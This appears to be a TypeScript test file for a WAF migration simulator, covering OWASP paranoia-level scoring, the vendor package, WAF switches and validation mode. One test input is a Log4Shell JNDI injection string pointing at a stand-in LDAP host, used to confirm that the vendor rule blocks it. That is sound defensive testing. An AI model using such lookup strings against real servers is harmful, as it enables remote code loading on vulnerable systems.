import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { getRequest } from '../../getRequest';
import { owaspRuleset } from '../../../server/src/managed/owasp';
import type { ManagedCatalog, ManagedRule } from '../../../server/src/rulesets/catalog';
import { vendorRuleset } from '../../../server/src/managed/vendor';
import { compileZone } from '../../../server/src/rulesets/engine';
import {
  CLOUDFLARE_PACKAGE_ID,
  migrationConfig,
  OWASP_PACKAGE_ID,
  PREVIOUS_OWASP_ANOMALY_RULE_ID,
  previousWafStandIn,
  type ActionMode,
  type MigrationZone,
  type Sensitivity,
  type ZoneWafSettings,
} from '../../../server/src/migration/index';

// A catalog whose OWASP rules make the arithmetic obvious: +30 at PL1, +30 at PL2, +50 at PL3.
const score = (ref: string, level: number, word: string, increment: number): ManagedRule => ({
  id: ref.padEnd(32, '0'),
  ref,
  description: `${ref}: test rule`,
  expression: `http.request.uri.query contains "${word}"`,
  action: 'score',
  action_parameters: { increment },
  enabled: true,
  categories: [`paranoia-level-${level}`],
});
const CATALOG: ManagedCatalog = { rulesets: [vendorRuleset, owaspRuleset([score('a1', 1, 'attack', 30), score('b2', 2, 'pl2', 30), score('c3', 3, 'pl3', 50)])] };
const VENDOR_LOG4SHELL = vendorRuleset.versions[vendorRuleset.versions.length - 1].rules.find((r) => r.ref === 'log4shell-uri')!;

const req = (path: string, query = '') => getRequest(path, query);

const ZONE_ID = '023e105f4ecef8ad9ca31a8372d0c353';
const waf = (sensitivity?: Sensitivity, action_mode?: ActionMode, extra: Partial<ZoneWafSettings> = {}): ZoneWafSettings => ({
  zoneId: ZONE_ID,
  enabled: true,
  packages: { [OWASP_PACKAGE_ID]: { ...(sensitivity ? { sensitivity } : {}), ...(action_mode ? { action_mode } : {}) } },
  ...extra,
});
const zone = (w: ZoneWafSettings, extra: Partial<MigrationZone> = {}): MigrationZone => ({ plan: 'business', waf: w, ...extra });

describe('the OWASP package at its mapped paranoia level and threshold', () => {
  // [sensitivity, query, expected action (undefined = lets it through)]
  const cases: [Sensitivity | undefined, string, string | undefined][] = [
    [undefined, 'attack', undefined], // PL2/40: 30
    [undefined, 'attack&pl2', 'challenge'], // 60
    ['high', 'attack', undefined],
    ['high', 'attack&pl2', 'challenge'],
    ['high', 'pl3&pl2', undefined], // PL3 is off at PL2: 30
    ['medium', 'attack', 'challenge'], // PL1/25: 30
    ['medium', 'pl2', undefined], // PL2 off at PL1
    ['low', 'attack', undefined], // PL1/40: 30
    ['low', 'attack&pl2', undefined], // PL2 off: 30
    ['off', 'attack&pl2', undefined],
  ];
  for (const [sensitivity, query, action] of cases) {
    test(`${sensitivity ?? 'default'} · ?${query} → ${action ?? 'through'}`, () => {
      const s = previousWafStandIn(zone(waf(sensitivity)), CATALOG);
      assert.deepEqual(s.problems, []);
      const v = s.previousWaf(req('/', query));
      assert.equal(v?.action, action);
      if (action) assert.equal(v?.ruleId, PREVIOUS_OWASP_ANOMALY_RULE_ID);
    });
  }
  const actions: [ActionMode, string][] = [
    ['simulate', 'simulate'],
    ['block', 'block'],
    ['challenge', 'challenge'],
  ];
  for (const [mode, action] of actions) {
    test(`action_mode ${mode} → ${action}`, () => {
      const v = previousWafStandIn(zone(waf('medium', mode)), CATALOG).previousWaf(req('/', 'attack'));
      assert.equal(v?.action, action);
      assert.equal(v?.ruleId, '981176');
      assert.match(v?.description ?? '', mode === 'simulate' ? /Inbound Anomaly Score Exceeded \(simulate, score 30\)$/ : /Inbound Anomaly Score Exceeded \(score 30 ≥ 25\)$/);
    });
  }
});

describe('the CloudFlare package, the switches and the exceptions', () => {
  const LOG4J = '${jndi:ldap://x.example/a}';
  test('the vendor ruleset acts for the CloudFlare package', () => {
    const v = previousWafStandIn(zone(waf('off')), CATALOG).previousWaf(req('/', LOG4J));
    assert.deepEqual(v, { action: 'block', ruleId: VENDOR_LOG4SHELL.id, description: `CloudFlare package: ${VENDOR_LOG4SHELL.description}` });
  });
  test('CloudFlare package off → nothing from it', () => {
    const w = waf('off', undefined, { packages: { [OWASP_PACKAGE_ID]: { sensitivity: 'off' }, [CLOUDFLARE_PACKAGE_ID]: { enabled: false } } });
    assert.equal(previousWafStandIn(zone(w), CATALOG).previousWaf(req('/', LOG4J)), undefined);
  });
  test('the zone-wide switch off → nothing at all', () => {
    const s = previousWafStandIn(zone(waf('medium', 'block', { enabled: false })), CATALOG);
    assert.equal(s.previousWaf(req('/', LOG4J)), undefined);
    assert.equal(s.previousWaf(req('/', 'attack')), undefined);
  });
  test('a page rule turning the WAF off for a path', () => {
    const s = previousWafStandIn(zone(waf('medium', 'block'), { pageRules: [{ id: 'p1', targets: ['example.com/admin/*'], waf: 'off' }] }), CATALOG);
    assert.equal(s.previousWaf(req('/admin/x', 'attack')), undefined);
    assert.equal(s.previousWaf(req('/shop', 'attack'))?.action, 'block');
  });
  test('Free plan → no previous WAF', () => {
    assert.equal(previousWafStandIn({ plan: 'free', waf: waf('medium', 'block') }, CATALOG).previousWaf(req('/', 'attack')), undefined);
  });
});

describe('in the engine, validation mode', () => {
  // The new configuration as the user tuned it during validation: OWASP at PL1 with threshold 60 (logs nothing here).
  const tuned = (z: MigrationZone) => {
    const rules = migrationConfig(z, CATALOG).config.rules.map((r) => ({ ...r, id: undefined, version: undefined, ref: undefined }));
    return rules.map((r) =>
      (r.action_parameters as { id?: string }).id === owaspRuleset().id
        ? { ...r, action_parameters: { ...(r.action_parameters as object), overrides: { categories: [2, 3, 4].map((n) => ({ category: `paranoia-level-${n}`, enabled: false })), rules: [{ id: owaspRuleset().anomalyRuleId!, score_threshold: 60 }] } } }
        : r,
    );
  };
  const z = zone(waf('medium', 'block'));
  const compiled = (extraLegacy: Partial<{ firewallRules: MigrationZone['firewallRules'] }> = {}) =>
    compileZone(
      {
        entryPoints: { http_request_firewall_managed: { kind: 'zone', phase: 'http_request_firewall_managed', rules: tuned(z) } },
        catalog: CATALOG,
        plan: 'enterprise',
        legacy: { firewallRules: extraLegacy.firewallRules ?? [], migrated: false, validationMode: true },
      },
      { previousWaf: previousWafStandIn(z, CATALOG).previousWaf },
    );

  test('the previous WAF blocks what the tuned new configuration lets through', () => {
    const ev = compiled().evaluate(req('/', 'attack'));
    assert.deepEqual(ev.decision, { action: 'block', phase: 'previous_waf', ruleId: '981176', ref: '981176', description: 'OWASP ModSecurity Core Rule Set: Inbound Anomaly Score Exceeded (score 30 ≥ 25)', score: 30, threshold: 25 });
    // The trace entry carries the score too: the security event of this block reads it there.
    assert.deepEqual(ev.trace.filter((t) => t.phase === 'previous_waf').map((t) => [t.outcome, t.score, t.threshold]), [['terminated', 30, 25]]);
    assert.equal(ev.validation?.newDecision.action, 'allow-through');
    assert.equal(ev.validation?.previous?.action, 'block');
  });
  test('a firewall rule bypassing the WAF skips the previous WAF too', () => {
    const ev = compiled({ firewallRules: [{ id: 'fw1', action: 'bypass', products: ['waf'], filter: { expression: 'ip.src eq 192.0.2.1' } }] }).evaluate(req('/', 'attack'));
    assert.equal(ev.decision.action, 'allow-through');
    assert.equal(ev.validation?.previous, undefined);
  });
});
